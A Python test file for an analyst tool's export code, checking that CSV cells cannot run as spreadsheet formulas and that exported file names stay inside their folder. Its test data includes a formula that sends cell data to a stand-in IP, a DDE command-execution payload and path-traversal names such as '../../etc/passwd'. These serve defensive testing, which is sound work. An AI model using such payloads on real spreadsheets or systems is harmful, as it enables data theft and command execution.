"""Exports a hostile name cannot turn against the analyst: CSV cells that
spreadsheets would run as formulas, and file names that would leave the
chosen folder."""

from __future__ import annotations

import csv
import json
import os

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from desktop.cli import run
from desktop.core import models as m
from desktop.core.csv_cells import FORMULA_STARTS, from_cell, join_list, split_list, to_cell
from desktop.core.dossier import ExportError
from desktop.core.names import alias_key
from desktop.core.services import resolve
from desktop.report.files import MAX_STEM, export_path, safe_file_name

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
TRICKY = ["'=already quoted", "''", "'", "'Ndrangheta", "Al-Qaeda", "=", "a=b", ""]


@pytest.mark.parametrize("value", FORMULAS + TRICKY)
def test_cells_round_trip(value):
    assert from_cell(to_cell(value)) == value


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_start_with_an_apostrophe(value):
    assert to_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jaish-e-Mohammed", "'Ndrangheta", "a=b", "Hafiz Saeed"])
def test_ordinary_cells_are_left_alone(value):
    assert to_cell(value) == value


@given(st.text(max_size=30))
def test_round_trip_for_any_text(value):
    cell = to_cell(value)
    assert from_cell(cell) == value
    assert not cell or cell[0] not in FORMULA_STARTS


def _entity(store, name: str, aliases: list[str]) -> None:
    with store.session() as s:
        e = m.Entity(name=name, type="ORG")
        s.add(e)
        s.flush()
        for n in [name, *aliases]:
            s.add(m.Alias(entity_id=e.id, name=n, key=alias_key(n), kind="alias", confirmed=True))


def test_entity_csv_is_safe_in_a_spreadsheet_and_imports_back_unchanged(store, tmp_path):
    names = {
        '=HYPERLINK("http://192.0.2.1/","x")': ["@alias", "plain"],
        "+Plus Group": ["-minus"],
        "-Dash Front": [],
        "@handle": ["=1+1"],
        "'=Quoted": ["''Twice"],
        "<script>alert(1)</script>": ["&amp;lt;", "back\\slash;semi"],
        "Ordinary Name": ["'Ndrangheta"],
    }
    for name, aliases in names.items():
        _entity(store, name, aliases)
    out = tmp_path / "entities.csv"
    resolve.export_entities(store, out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS, row
    assert ['\'=HYPERLINK("http://192.0.2.1/","x")', "ORG", "'@alias;plain"] in rows

    from desktop.core.store import open_store

    other = open_store(tmp_path / "other.sqlite")
    resolve.import_entities(other, out)
    again = tmp_path / "again.jsonl"
    resolve.export_entities(other, again)
    other.close()
    got = {}
    for line in again.read_text(encoding="utf-8").splitlines():
        props = json.loads(line)["properties"]
        extra = props.get("alias", []) + props.get("weakAlias", [])
        got[props["name"][0]] = sorted(extra)
    assert got == {name: sorted(aliases) for name, aliases in names.items()}


def test_ftm_export_keeps_values_literal(store, tmp_path):
    _entity(store, "=SUM(1)", ["@x"])
    out = tmp_path / "e.jsonl"
    resolve.export_entities(store, out)
    props = json.loads(out.read_text(encoding="utf-8"))["properties"]
    assert props["name"] == ["=SUM(1)"]
    assert props["alias"] == ["@x"]


HOSTILE_NAMES = [
    "../../etc/passwd",
    "..\\..\\Windows\\System32\\x",
    "a/b\\c",
    "/absolute/path",
    "C:\\Users\\x",
    "CON",
    "con",
    "NUL.txt",
    "COM1",
    "LPT9",
    ".bashrc",
    "..",
    ".",
    "...",
    "",
    "   ",
    "\x00\x01",
    "name\u202egpj.exe",
    "line\nbreak\ttab",
    'quote"star*pipe|colon:less<more>question?',
    "x" * 1000,
    "ج" * 300,
    "Jaish-e-Mohammed — profile",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_file_names_stay_in_the_folder(name, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    path = export_path(folder, name, ".pdf")
    assert path.parent == folder.resolve()
    file_name = path.name
    assert file_name == safe_file_name(name, ".pdf")
    assert file_name.endswith(".pdf")
    assert not file_name.startswith(".")
    assert "/" not in file_name
    assert "\\" not in file_name
    assert ".." not in file_name
    assert "\u202e" not in file_name
    assert len(file_name.encode("utf-8")) <= 255
    assert len(file_name) <= MAX_STEM + 4
    stem = file_name.split(".")[0].upper()
    assert stem not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT9"}
    assert not set(file_name) & set('<>:"|?*\x00\n\t')
    # It really can be written there, and nowhere else.
    path.write_bytes(b"x")
    assert [p.name for p in folder.iterdir()] == [file_name]


def test_ordinary_names_stay_readable():
    assert safe_file_name("Jaish-e-Mohammed profile", ".pdf") == "Jaish-e-Mohammed profile.pdf"
    assert safe_file_name("مسعود اظہر", ".html") == "مسعود اظہر.html"
    assert safe_file_name("J. Smith & Co.", ".md") == "J. Smith & Co.md"


def test_a_symlink_out_of_the_folder_is_refused(tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    outside = tmp_path / "outside.pdf"
    os.symlink(outside, folder / "Target.pdf")
    with pytest.raises(ExportError, match="not a safe file name"):
        export_path(folder, "Target", ".pdf")


def test_cli_export_entity_names_the_file_after_the_entity(store, db_path, tmp_path, capsys):
    _entity(store, "../../escape <b>Group</b>", [])
    store.close()
    out = tmp_path / "out"
    out.mkdir()
    code = run(["--db", str(db_path), "export-entity", "1", "--out-dir", str(out), "--md"])
    assert code == 0, capsys.readouterr().err
    files = list(out.iterdir())
    assert len(files) == 1
    assert files[0].name.endswith(".md")
    assert files[0].parent == out
    assert list(tmp_path.glob("*.md")) == []
    assert "escape _b_Group__b_" in files[0].name


def test_cli_out_dir_must_exist(store, db_path, tmp_path, capsys):
    _entity(store, "Group", [])
    store.close()
    code = run(
        ["--db", str(db_path), "export-entity", "1", "--out-dir", str(tmp_path / "no"), "--md"]
    )
    assert code == 1
    assert "is not a folder" in capsys.readouterr().err


def test_explicit_file_names_are_used_as_given(store, db_path, tmp_path, capsys):
    """A path the user typed is the user's choice (they may well mean ../x)."""
    _entity(store, "Group", [])
    store.close()
    sub = tmp_path / "a"
    sub.mkdir()
    target = sub / ".." / "chosen.md"
    assert run(["--db", str(db_path), "export-entity", "1", "--md", str(target)]) == 0
    assert (tmp_path / "chosen.md").exists()


@given(st.lists(st.text(max_size=8), max_size=5))
def test_alias_lists_round_trip(values):
    assume(values != [])
    assert split_list(join_list(values)) == values


def test_hand_written_backslashes_are_kept():
    assert split_list(r"C:\temp;x\;y; z") == [r"C:\temp", "x;y", " z"]
